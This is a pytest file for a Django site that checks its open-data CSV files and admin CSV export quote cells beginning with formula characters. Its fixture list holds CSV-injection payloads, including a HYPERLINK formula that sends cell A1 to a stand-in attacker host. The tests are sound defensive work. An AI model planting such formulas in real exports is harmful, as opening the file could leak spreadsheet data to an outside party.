"""No CSV the site writes carries a live formula: the open data files and the curators' admin
export all apply hubs.opendata.safe_cell, which quotes a cell a spreadsheet would run."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories import make_business, make_hub, make_resource

pytestmark = pytest.mark.django_db

HOSTILE = [
    '+HYPERLINK("https://evil.example/?x="&A1, "Click")',
    "-1+1",
    "@SUM(A1:A9)",
    "==1+1",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


def _cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8"))) for cell in row]


def _admin_export(client, model):
    fields = {
        "hub": ["slug", "name"],
        "business": ["slug", "name"],
        "resource": ["slug", "name"],
    }[model]
    data = {"format": "0", "resource": "0"}
    data.update({f"{model}resource_{field}": "on" for field in fields})
    return client.post(f"/admin/hubs/{model}/export/", data)


@pytest.mark.parametrize("value", HOSTILE)
def test_open_data_csv_files_quote_every_formula(client, value):
    make_hub(name=f"{value} hub", website="")
    make_business(name=f"{value} co")
    make_resource(name=f"{value} fund")
    names = {"data_hubs_csv": "hub", "data_businesses_csv": "co", "data_resources_csv": "fund"}

    for url_name, suffix in names.items():
        cells = _cells(client.get(reverse(f"hubs:{url_name}")))

        assert f"'{value} {suffix}" in cells
        assert f"{value} {suffix}" not in cells


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("model", ["hub", "business", "resource"])
def test_admin_csv_export_quotes_every_formula(client, superuser, model, value):
    maker = {"hub": make_hub, "business": make_business, "resource": make_resource}[model]
    maker(name=f"{value} x", slug="hostile")
    client.force_login(superuser)

    response = _admin_export(client, model)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    assert rows[0] == ["slug", "name"]
    assert ["hostile", f"'{value} x"] in rows
